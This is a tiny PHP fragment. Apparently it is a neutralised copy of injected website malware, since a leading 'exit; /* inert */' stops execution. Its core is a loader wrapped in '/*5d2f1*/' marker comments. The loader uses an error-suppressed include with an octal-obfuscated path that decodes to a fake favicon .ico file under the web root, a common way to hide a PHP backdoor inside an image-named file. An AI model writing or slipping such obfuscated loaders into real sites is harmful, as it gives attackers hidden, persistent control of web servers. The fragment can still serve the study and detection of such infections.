<?php exit; /* inert */ 
/*5d2f1*/

@include "\057va\162/w\167w/h\164ml\057im\141ge\163/f\141vi\143on\1375d\062f1\141.i\143o";

/*5d2f1*/
